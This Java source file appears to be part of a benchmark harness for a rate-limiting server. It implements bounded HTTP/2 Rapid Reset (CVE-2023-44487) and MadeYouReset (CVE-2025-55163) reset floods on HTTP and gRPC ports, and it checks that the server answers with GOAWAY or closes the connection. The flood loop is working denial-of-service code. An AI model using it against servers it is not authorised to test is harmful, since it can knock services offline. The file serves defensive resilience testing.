package io.sluice.bench.attack;

import io.netty.handler.codec.http2.DefaultHttp2Headers;
import io.netty.handler.codec.http2.Http2Error;
import io.netty.handler.codec.http2.Http2Headers;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;

/**
 * HTTP/2 reset floods on one connection per port (HTTP and gRPC), each stream a complete request the server
 * starts to work on:
 *
 * <ul>
 *   <li>{@link Pattern#RAPID_RESET} (CVE-2023-44487): HEADERS, DATA with END_STREAM, then the client's own
 *       RST_STREAM (CANCEL). The stream is gone at once, so the stream limit never bites; the server must count
 *       the client's resets and close the connection.</li>
 *   <li>{@link Pattern#MADE_YOU_RESET} (CVE-2025-55163): the same complete request, then a WINDOW_UPDATE of 0 on
 *       its stream, a stream error (RFC 9113 §6.9) that makes the server reset the stream itself; a server that
 *       only counts the client's resets never stops. It must count its own and close.</li>
 * </ul>
 *
 * Streams are written in batches of {@link #BATCH} as fast as the socket takes them, until the server sends
 * GOAWAY or closes, or {@code maxStreams} were sent, or {@code seconds} passed. What held: the connection closed
 * (or at least GOAWAY came) before the bound; the row tells after how many streams, with the server's own
 * resets and answers meanwhile.
 */
final class Http2ResetProbe implements Probe {
    /** Streams per write: small enough that a close is seen within a few hundred streams of when it came. */
    static final int BATCH = 50;
    /** How long to wait for the close after GOAWAY or after the last stream. */
    private static final long CLOSE_WAIT_MS = 5_000;

    enum Pattern {
        RAPID_RESET("http2_rapid_reset", "HEADERS + DATA(END_STREAM) + RST_STREAM(CANCEL)"),
        MADE_YOU_RESET("http2_made_you_reset", "HEADERS + DATA(END_STREAM) + WINDOW_UPDATE(0)");

        final String probeName;
        final String frames;

        Pattern(String probeName, String frames) {
            this.probeName = probeName;
            this.frames = frames;
        }
    }

    private final Pattern pattern;
    private final int maxStreams;
    private final int seconds;

    Http2ResetProbe(Pattern pattern, int maxStreams, int seconds) {
        this.pattern = pattern;
        this.maxStreams = maxStreams;
        this.seconds = seconds;
    }

    @Override
    public String name() {
        return pattern.probeName;
    }

    @Override
    public String describe() {
        return String.format("one h2c connection per port (HTTP: POST /v1/check; gRPC: ShouldRateLimit), streams of "
                + "%s until GOAWAY or close, at most %,d streams or %d s", pattern.frames, maxStreams, seconds);
    }

    /** What one connection's attack came to. */
    record Result(String port, int streamsSent, int serverResets, int responses, String goawayError,
                  int goawayLastStream, boolean closed, double secondsToEnd) {

        /** The connection ended: GOAWAY came, or the server closed it. */
        boolean cutOff() {
            return goawayError != null || closed;
        }

        String outcome() {
            if (goawayError != null) {
                return port + ": GOAWAY " + goawayError + (closed ? " and closed" : ", not closed");
            }
            return port + (closed ? ": closed without GOAWAY" : ": still open");
        }

        @Override
        public String toString() {
            return String.format("%s after %,d streams sent in %.1f s (GOAWAY last stream %d; %,d server resets, "
                    + "%,d response headers)", outcome(), streamsSent, secondsToEnd, goawayLastStream, serverResets,
                    responses);
        }
    }

    @Override
    public Outcome run(Target target) throws Exception {
        Answers answers = new Answers();
        List<String> findings = new ArrayList<>();
        List<String> violations = new ArrayList<>();
        List<Result> results = new ArrayList<>();
        results.add(attack(target.host(), target.httpPort(), "HTTP", checkRequest(target)));
        if (target.grpcPort() >= 0) {
            results.add(attack(target.host(), target.grpcPort(), "gRPC", grpcRequest(target)));
        } else {
            violations.add("the server did not print its gRPC port");
        }
        for (Result r : results) {
            answers.add(r.outcome());
            findings.add(r.toString());
            if (!r.cutOff()) {
                violations.add(String.format("%s port: neither GOAWAY nor close after %,d streams", r.port(),
                        r.streamsSent()));
            }
        }
        return new Outcome(answers, String.join("; ", findings), violations);
    }

    /**
     * Streams of the pattern on one new connection until the server cuts it off or the bounds are reached; then
     * up to {@link #CLOSE_WAIT_MS} for the close.
     */
    Result attack(String host, int port, String portName, Request request) throws InterruptedException {
        long start = System.nanoTime();
        long end = start + seconds * 1_000_000_000L;
        int sent = 0;
        try (RawHttp2Connection connection = RawHttp2Connection.open(host, port)) {
            RawHttp2Connection.StreamFrames frames = (f, id) -> {
                f.headers(id, request.headers(), false);
                f.data(id, request.body(), true);
                if (pattern == Pattern.RAPID_RESET) {
                    f.rstStream(id, Http2Error.CANCEL);
                } else {
                    f.windowUpdate(id, 0);
                }
            };
            while (sent < maxStreams && System.nanoTime() < end && !connection.goawayReceived()) {
                int batch = Math.min(BATCH, maxStreams - sent);
                if (!connection.write(1 + 2 * sent, batch, frames)) {
                    break;
                }
                sent += batch;
            }
            connection.awaitClose(CLOSE_WAIT_MS);
            long ended = connection.closed() ? connection.closedAtNanos() : System.nanoTime();
            return new Result(portName, sent, connection.serverResets(), connection.responses(),
                    connection.goawayError(), connection.goawayLastStream(), connection.closed(),
                    (ended - start) / 1e9);
        }
    }

    /** One complete request: its HEADERS and its body. */
    record Request(Http2Headers headers, byte[] body) {}

    private static Request checkRequest(Target target) {
        Http2Headers headers = new DefaultHttp2Headers().method("POST").scheme("http").path("/v1/check")
                .authority(target.host() + ":" + target.httpPort()).add("content-type", "application/json");
        return new Request(headers, "{\"rule\":\"bench\",\"key\":\"h2-reset\"}".getBytes(StandardCharsets.UTF_8));
    }

    private static Request grpcRequest(Target target) {
        Http2Headers headers = new DefaultHttp2Headers().method("POST").scheme("http").path(MalformedGrpcProbe.PATH)
                .authority(target.host() + ":" + target.grpcPort()).add("content-type", "application/grpc")
                .add("te", "trailers");
        return new Request(headers, MalformedGrpcProbe.frame(0, MalformedGrpcProbe.request("h2-reset")));
    }
}
